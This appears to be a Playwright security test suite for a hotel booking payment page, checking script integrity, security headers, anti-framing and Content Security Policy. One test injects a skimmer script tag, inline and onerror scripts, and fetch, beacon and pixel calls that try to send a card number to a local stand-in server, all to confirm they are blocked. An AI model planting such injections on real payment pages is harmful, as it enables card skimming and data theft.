import { createHash } from 'node:crypto';
import { readFileSync, readdirSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, resolve } from 'node:path';
import type { Page } from 'playwright-core';
import { addDays, dayIn } from '#libs/stays';
import { hasBrowser } from '../support/browser.js';
import { Guest } from '../support/guest.js';
import { eventually } from '../support/platform.js';
import { describeScreens, useBrowser } from '../support/use-browser.js';

/**
 * The scripts that may run where a guest is about to pay, by the names their build gives them. One more is to be looked at
 * by a person, and added here.
 */
const KNOWN_SCRIPTS = [
  'follow-intent',
  'front',
  'front-pages',
  'index',
  'page-icons',
  'PaymentPage',
  'rolldown-runtime',
  'shared',
];
const BUILT = resolve('dist/front/assets');
/** What the page's answer says about itself; the API's address is the test's own. */
const KEPT_HEADERS = {
  'cache-control': 'no-cache',
  'content-security-policy':
    "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; font-src 'self' data:; worker-src 'self'; " +
    "img-src 'self' data: blob: API; connect-src 'self' API; frame-ancestors 'none'; base-uri 'self'; form-action 'self'",
  'content-type': 'text/html; charset=utf-8',
  'permissions-policy': 'camera=(), microphone=(), geolocation=(), payment=()',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'strict-transport-security': 'max-age=31536000; includeSubDomains',
  'x-content-type-options': 'nosniff',
};
const OF_THE_CONNECTION = ['connection', 'content-length', 'date', 'keep-alive', 'transfer-encoding'];

const konak = useBrowser();
let payUrl: string;

beforeAll(async () => {
  if (!hasBrowser) return;
  const guest = new Guest(konak.api, addDays(dayIn('Europe/Istanbul', new Date()), 50));
  const staff = await konak.api.login('corporate.agency.admin');
  const hotel = (await staff.get('/hotels?inventory=addedbyme&limit=1&sort=id&order=asc')).body.records[0].id as number;
  const offer = await eventually('an offer', async () =>
    (await guest.offers(hotel)).find(({ pricePlan }) => pricePlan.payment === 'now'),
  );
  payUrl = (await guest.complete(await guest.cart(offer), 'creditcard')).body.payment.url as string;
});

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('base64');
const nameOf = (file: string) => file.replace(/-[\w-]{8}\.js$/, '').replace(/\.js$/, '');

/** Name and hash of every script that a page has loaded or holds, until its visitor can act. */
async function inventory(page: Page, url: string, ready: string): Promise<Map<string, string>> {
  const loaded = new Map<string, string>();
  const reading: Promise<unknown>[] = [];
  page.on('response', (answer) => {
    if (answer.request().resourceType() !== 'script') return;
    const { pathname, origin } = new URL(answer.url());
    const name = origin === new URL(url).origin ? pathname.split('/').at(-1)! : answer.url();
    reading.push(answer.body().then((body) => loaded.set(name, sha256(body))));
  });
  await page.goto(url);
  await page.locator(ready).waitFor();
  await page.waitForLoadState('networkidle');
  await Promise.all(reading);
  const inline = await page.locator('script:not([src])').count();
  if (inline > 0) loaded.set('inline', String(inline));
  return loaded;
}

describeScreens('the page on which a guest pays', () => {
  it('the pay page runs the scripts of its build that are known, byte by byte, and no others', async () => {
    const { page } = await konak.open({ width: 1440 });
    const loaded = await inventory(page, payUrl, '[data-testid=pay-button]');
    const built = new Map(
      readdirSync(BUILT)
        .filter((file) => file.endsWith('.js'))
        .map((file) => [file, sha256(readFileSync(join(BUILT, file)))]),
    );
    for (const [file, hash] of loaded) expect([file, hash]).toEqual([file, built.get(file)]);
    expect([...loaded.keys()].map(nameOf).filter((name) => !KNOWN_SCRIPTS.includes(name))).toEqual([]);
    expect([...loaded.keys()].map(nameOf)).toContain('PaymentPage');
    await page.close();
  });

  it('the pay page is sent with the headers that were agreed on', async () => {
    const answer = await fetch(payUrl);
    const sent = [...answer.headers].filter(([name]) => !OF_THE_CONNECTION.includes(name));
    const asKept = sent.map(([name, value]) => [name, value.replaceAll(konak.addresses.api, 'API')]);
    expect(Object.fromEntries(asKept)).toEqual(KEPT_HEADERS);
  });

  it.each([
    ['ours', () => Promise.resolve(payUrl)],
    ['the gateway’s', () => gatewayUrl()],
  ])('%s runs nothing that was slipped into it, and sends nothing elsewhere', async (_, address) => {
    const asked: string[] = [];
    const foreign = createServer((request, response) => {
      asked.push(request.url!);
      response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
      response.end('window.slipped = "foreign"');
    });
    await new Promise<void>((done) => foreign.listen(0, '127.0.0.1', done));
    const elsewhere = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
    const { page, faults } = await konak.open({ width: 390 });
    const url = await address();
    // As if the page had been changed on its way through a cache or a disk.
    await page.route(url, async (route) => {
      const answer = await route.fetch();
      const slipped = `<script>window.slipped = 'inline'</script><script src="${elsewhere}/skimmer.js"></script>
        <img src="x:" onerror="window.slipped = 'handler'"><base href="${elsewhere}/">`;
      await route.fulfill({ response: answer, body: (await answer.text()).replace('</body>', `${slipped}</body>`) });
    });
    await page.goto(url);
    // Our scripts run; a browser lets a page that was changed on its way speak to no address of this machine.
    await page.locator('#root h1, [name=number]').first().waitFor();
    await page.evaluate(`(async () => {
      const late = document.createElement('script');
      late.textContent = 'window.slipped = "late"';
      document.body.append(late);
      await fetch('${elsewhere}/card?number=1').catch(() => undefined);
      navigator.sendBeacon('${elsewhere}/beacon', '1');
      await new Promise((loaded) => {
        const pixel = new Image();
        pixel.onload = pixel.onerror = loaded;
        pixel.src = '${elsewhere}/pixel';
      });
    })()`);
    expect(await page.evaluate('window.slipped ?? null')).toBeNull();
    expect(asked).toEqual([]);
    expect(faults.filter((fault) => fault.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(3);
    await page.close();
    await new Promise((done) => foreign.close(done));
  });

  it('the pay page cannot be framed by other sites', async () => {
    const { page } = await konak.open({ width: 1440 });
    const framing = createServer((_request, response) =>
      response.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${payUrl}"></iframe>`),
    );
    await new Promise<void>((done) => framing.listen(0, '127.0.0.1', done));
    await page.goto(`http://127.0.0.1:${(framing.address() as AddressInfo).port}`);
    await page.waitForLoadState('networkidle');
    expect(await page.frameLocator('iframe').getByTestId('pay-button').count()).toBe(0);
    await page.close();
    await new Promise((done) => framing.close(done));
  });
});

async function gatewayUrl(): Promise<string> {
  const code = payUrl.split('/').at(-1)!;
  return (await konak.api.post('/order/initialize', { code })).body.data.redirect as string;
}
